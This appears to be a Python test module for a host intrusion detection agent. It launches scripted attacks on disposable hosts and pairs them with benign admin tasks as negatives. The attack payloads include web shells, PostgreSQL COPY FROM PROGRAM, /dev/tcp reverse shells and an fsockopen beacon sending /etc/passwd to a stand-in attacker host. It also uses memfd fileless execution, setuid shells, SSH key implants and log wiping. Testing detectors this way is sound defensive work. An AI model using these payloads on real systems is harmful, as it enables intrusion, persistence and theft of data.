# SPDX-License-Identifier: GPL-2.0-or-later
"""attacks - what is done to the estate: ways in with their real parentage, what is run through them, and days of honest
work that only look strange. A way in returns what the attacker's first process said, its pid among it."""
import random, threading

from estate import *


def quoted(text):
    return urllib.parse.quote(text, safe="")


def marked(payload):
    """The first process tells its pid to the attacker, by the way that its output takes anyway: nothing is added that a
    sensor sees."""
    return f"echo PID $$; ({payload}) 2>/dev/null; true"


# ---- ways in

def php_shell(host, payload):
    return host.request("POST", "/uploads/shell.php", form={"c": marked(payload)}, source=ATTACKER)[1]


def cgi_shell(host, payload):
    return host.get("/cgi/?c=" + quoted(marked(payload)), source=ATTACKER)[1]


def copy_program(host, payload):
    command = f"{{ {marked(payload)}; }} | tr \"\\\\\\\\\\\\t\" \"  \"".replace("'", "''")
    return host.sql(f"create temp table o(x text); copy o from program '{command}'; select x from o")


def guessed_login(host, payload):
    """Ten wrong guesses, then the right one, from an address that nobody logs in from."""
    for n in range(10):
        host.ssh("bob", "true", password=f"guess{n}", source=ATTACKER)
    return host.ssh("bob", marked(payload), source=ATTACKER)[0]


def php_inside(host, code):
    """Nothing is started: the attacker's code runs in the worker."""
    return host.request("POST", "/uploads/shell.php", form={"e": "echo 'PID ', getmypid(), \"\\n\"; " + code}, source=ATTACKER)[1]


def sql_inside(host, statement):
    out = host.sql(f"select 'PID ' || pg_backend_pid(); {statement}")
    return out


# ---- what is run through them. From the collections of real commands, where they are: read one by one, and harmless in a
# host that is thrown away.

ATOMIC = ("2a9b677d", "8cd1947b", "bf23c7dc", "bdaebd56", "3a53734a", "e6f36545", "361fe49d", "b4f6a567", "3a15c372",
          "7c86c55c", "391f5298", "e86f1b4b", "837d609b", "cb8f7cdc", "6604d964")


def drawn(seed, count):
    """Payloads: (where it is from, command)."""
    path = os.path.join(TOP, "..", "shared", "data", "attack-commands", "atomic.json")
    own = [("own", c) for c in ("id; uname -a; cat /etc/passwd", "ps aux; ss -tnp", "find / -maxdepth 2 -perm -4000",
                                "cat /proc/net/tcp /etc/resolv.conf", "tar cf /tmp/.x.tar /etc/hosts; base64 /tmp/.x.tar | wc -c")]
    if os.path.exists(path):
        with open(path) as f:
            own += [(a["technique"], a["command"].strip()) for a in json.load(f) if a["guid"][:8] in ATOMIC]
    chance = random.Random(seed)
    return [chance.choice(own) for _ in range(count)]


def reverse_shell(port):
    return f"bash -c 'exec 3<>/dev/tcp/{ATTACKER}/{port}; read -r line <&3; eval \"$line\" >&3'"


MEMORY = ("python3 -c \"import os; f=os.memfd_create('x'); os.write(f, open('/bin/true','rb').read()); "
          "os.execv('/proc/self/fd/%d' % f, ['kworker'])\"")
FORKS = "i=0; while [ $i -lt 300 ]; do /bin/true; i=$((i+1)); done"


def slowly(way):
    """One step every twenty seconds."""
    def steps(host, payload):
        said = ""
        for step in ("id", "uname -a", payload):
            said += way(host, step)
            pause(20 if step != payload else 0)
        return said
    return steps


def padded(way):
    """Between everyday requests of the same daemon."""
    def mixed(host, payload):
        for n in range(30):
            host.everyday(n)
        said = way(host, payload)
        for n in range(30):
            host.everyday(n)
        return said
    return mixed


def at_peak(way, work=None):
    """While many do something else there, or `work` is done."""
    def under(host, payload):
        over = threading.Event()

        def load():
            n = 0
            while not over.is_set():
                host.everyday(n)
                n += 1
        threads = [threading.Thread(target=load, daemon=True) for _ in range(6)] if work is None else \
            [threading.Thread(target=work, args=(host,), daemon=True)]
        for t in threads:
            t.start()
        said = way(host, payload)
        over.set()
        for t in threads:
            t.join()
        return said
    return under


class Attack:
    """host: of which kind it needs one; daemon: whose doing it is; way and payload as above."""

    def __init__(self, name, kind, daemon, way, payload):
        self.name, self.kind, self.daemon, self.way, self.payload = name, kind, daemon, way, payload


def attacks(seed):
    """Those of the short run first."""
    d = iter(drawn(seed, 40))
    some = lambda: next(d)[1]
    beacon = f"$s = fsockopen('{ATTACKER}', 4444, $n, $t, 3); fwrite($s, file_get_contents('/etc/passwd')); fclose($s);"
    return [
        Attack("a PHP web shell", Web, "php-fpm", php_shell, some()),
        Attack("a CGI web shell", Web, "fcgiwrap", cgi_shell, some()),
        Attack("COPY FROM PROGRAM", Database, "postgres", copy_program, some()),
        Attack("a guessed password", Login, "sshd", guessed_login, some()),
        Attack("PHP sends files out, in the worker", Web, "php-fpm", php_inside, beacon),
        Attack("PHP drops a web shell, in the worker", Web, "php-fpm", php_inside,
               "file_put_contents('/var/www/cache/c.php', '<?php eval($_POST[1]);');"),
        Attack("SQL writes a key, in the backend", Database, "postgres", sql_inside,
               "copy (select 'ssh-ed25519 AAAA x') to '/var/lib/postgresql/.ssh/authorized_keys'"),
        Attack("a reverse shell from CGI", Web, "fcgiwrap", cgi_shell, reverse_shell(4444)),
        # The long run has these too, and more draws.
        Attack("a program in memory", Web, "php-fpm", php_shell, MEMORY),
        Attack("a burst of processes", Database, "postgres", copy_program, FORKS),
        Attack("a reverse shell from SQL", Database, "postgres", copy_program, reverse_shell(4444)),
        Attack("a renamed shell", Web, "php-fpm", php_shell, "cp /bin/sh /tmp/nginx; /tmp/nginx -c id"),
        Attack("another interpreter", Web, "fcgiwrap", cgi_shell, "perl -e 'print `id`, `cat /etc/passwd`'"),
        Attack("in base64", Web, "php-fpm", php_shell, "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh"),
        Attack("a setuid shell", Database, "postgres", copy_program, "cp /bin/sh /var/tmp/.s; chmod 4755 /var/tmp/.s"),
        Attack("a key for the intruder", Login, "sshd", guessed_login,
               "mkdir -p ~/.ssh; echo ssh-ed25519 AAAA x >>~/.ssh/authorized_keys"),
        Attack("a wiped log", Web, "fcgiwrap", cgi_shell, ": >/var/www/cache/page1; rm -f /var/www/cache/*; touch -d 2001-01-01 /tmp/x"),
        Attack("a step every twenty seconds", Web, "php-fpm", slowly(php_shell), "cat /etc/passwd"),
        Attack("padded with everyday work", Database, "postgres", padded(copy_program), some()),
        Attack("at peak load", Web, "php-fpm", at_peak(php_shell), some()),
        Attack("during an upgrade of the host", Web, "fcgiwrap", at_peak(cgi_shell, reinstall), some()),
        *[Attack(f"a PHP web shell, draw {n}", Web, "php-fpm", php_shell, some()) for n in range(6)],
        *[Attack(f"a CGI web shell, draw {n}", Web, "fcgiwrap", cgi_shell, some()) for n in range(6)],
        *[Attack(f"COPY FROM PROGRAM, draw {n}", Database, "postgres", copy_program, some()) for n in range(6)],
        *[Attack(f"a guessed password, draw {n}", Login, "sshd", guessed_login, some()) for n in range(4)],
    ]


# ---- honest work

def reload_with_a_new_site(host):
    conf = Web.nginx_conf("server { listen 8080; root /var/www/html; }")
    host.administer(f"cat >/etc/nginx/nginx.conf <<'EOF'\n{conf}EOF\n/usr/sbin/nginx -t -q && /usr/sbin/nginx -s reload")
    wait(lambda: host.get("/index.html")[0] == 200, 5)


def rotate_logs(host):
    host.run("cd /var/log/nginx && mv access.log access.log.1 && kill -USR1 $(cat /run/nginx.pid) && gzip -f access.log.1")
    wait(lambda: host.get("/index.html")[0] == 200, 5)


def renew_certificate(host):
    host.administer("openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -days 90 -keyout /etc/nginx/key.pem -out /etc/nginx/cert.pem "
             "2>/dev/null && /usr/sbin/nginx -s reload")


def load_times_ten(host):
    for n in range(100):
        host.everyday(n)


def forgotten_password(host):
    for n in range(3):
        host.ssh("alice", "true", password=f"was it this{n}")
    host.ssh("alice", "uptime; who")


def administrator(host):
    host.administer("ss -tln; ps aux | head -3; tail -n 3 /var/log/auth.log; free; vmstat 1 1; cat /proc/meminfo | head -2")


def debugging(host):
    host.run("strace -c -p $(pidof -s nginx) -o /tmp/trace & sleep 0.3; kill $!; curl -s http://127.0.0.1/index.html | head -c 10; ls /proc/$(pidof -s nginx)/fd",
             check=False)


def backlog(host):
    pid = host.agent_pid()
    host.run("kill -STOP $(pidof daemonsec-uplink)")
    for n in range(5):
        host.everyday(n)
    host.run("kill -CONT $(pidof daemonsec-uplink)")
    return pid


def agent_again(host):
    host.run("kill -TERM $(pidof daemonsec-uplink)", check=False)
    wait(lambda: host.run("pidof daemonsec-uplink", check=False).strip(), 10)


def database_restart(host):
    host.run(f"setpriv --reuid=postgres --regid=postgres --init-groups {os.path.dirname(PG)}/pg_ctl -D /srv/pg/data -s -w -m fast "
             "-l /srv/pg/log -o '-k /run/pg -c listen_addresses=* -F' restart")


def first_backup(host):
    host.administer(f"pg_dump -h 127.0.0.1 -U postgres postgres | gzip >/var/tmp/backup.gz; tar czf /var/tmp/etc.tgz /etc/hosts")


def package_of(estate, name, version):
    """A package file made of what is installed of it here, its programs a new build."""
    work = tempfile.mkdtemp(dir=estate.dir + "/site")
    for path in subprocess.run(["dpkg", "-L", name], capture_output=True, text=True, check=True).stdout.splitlines():
        if os.path.isfile(path) and not os.path.islink(path):
            os.makedirs(work + os.path.dirname(path), exist_ok=True)
            shutil.copy2(path, work + path)
            if "/bin/" in path or "/sbin/" in path:
                with open(work + path, "ab") as f:
                    f.write(version.encode())
    os.makedirs(work + "/DEBIAN")
    with open(work + "/DEBIAN/control", "w") as f:
        f.write(f"Package: {name}\nVersion: {version}\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n")
    file = f"{estate.dir}/{name}_{version}.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", work, file], check=True, capture_output=True)
    shutil.rmtree(work)
    return file


def install(host, file):
    shutil.copy(file, f"/proc/{host.pid}/root/var/cache/apt/archives/")
    host.administer(f"dpkg --force-all -i /var/cache/apt/archives/{os.path.basename(file)}")


def upgrade(host):
    install(host, package_of(host.estate, "fcgiwrap", "9:1"))
    host.run("kill -TERM $(cat /run/cgi.pid); rm -f /run/cgi.sock; spawn-fcgi -s /run/cgi.sock -U www-data -u www-data -P /run/cgi.pid -F 2 /usr/sbin/fcgiwrap")
    wait(lambda: host.get("/cgi/?page=1")[0] == 200, 5)


def reinstall(host):
    install(host, package_of(host.estate, "fcgiwrap", "9:1"))


def upgrade_everywhere(host):
    file = package_of(host.estate, "cron", "9:2")
    for h in host.estate.hosts:
        install(h, file)
        h.run("kill -TERM $(pidof cron); rm -f /run/crond.pid; cron")


def new_job_everywhere(host):
    for h in host.estate.hosts:
        h.administer("echo '* * * * * root find /var/log -name x -size +1M >/dev/null' >/etc/cron.d/look")
    pause(65)


def weekly_job(host):
    """The first of its sort: what cron runs once a week, here in the next minute."""
    host.administer("printf '#!/bin/sh\nfind /var/log -type f | xargs cat | gzip >/var/tmp/week.gz\n' >/etc/cron.weekly/pack; "
                    "chmod 755 /etc/cron.weekly/pack; echo '* * * * * root run-parts /etc/cron.weekly' >/etc/cron.d/weekly")
    pause(65)
    host.administer("rm /etc/cron.d/weekly")


def reboot(host):
    host.reboot()
    wait(lambda: len(host.estate.site.connected()) == len(host.estate.hosts), 20, 0.1)
    host.everyday(1)


def new_host(host):
    h = host.estate.host(f"{host.name}new", type(host))
    h.start()
    h.start_agent(host.estate.agent_options)
    for n in range(50):
        h.everyday(n)


def traffic_dump(host):
    host.administer("timeout 2 tcpdump -c 5 -i any port 80 -w /tmp/x.pcap & sleep 0.2; gdb -p $(pidof -s nginx) -batch -ex bt; wait; ls -l /tmp/x.pcap")


NEGATIVES = [
    ("a new site and a reload", Web, reload_with_a_new_site),
    ("logs are rotated", Web, rotate_logs),
    ("a forgotten password", Login, forgotten_password),
    ("an administrator looks around", Login, administrator),
    ("the uplink stops and goes on, with a backlog", Database, backlog),
    ("a certificate is renewed", Web, renew_certificate),
    # The long run has these too.
    ("ten times the load", Web, load_times_ten),
    ("someone debugs on the console", Web, debugging),
    ("the uplink is started again", Login, agent_again),
    ("the database is started again", Database, database_restart),
    ("the first backup", Database, first_backup),
    ("a package is upgraded on one host", Web, upgrade),
    ("a package is installed again", Web, reinstall),
    ("the same upgrade everywhere", Login, upgrade_everywhere),
    ("a new cron job on every host", Login, new_job_everywhere),
    ("the first weekly job", Database, weekly_job),
    ("an administrator with tcpdump and gdb", Web, traffic_dump),
    ("a host is booted again", Web, reboot),
    ("a new host", Web, new_host),
]
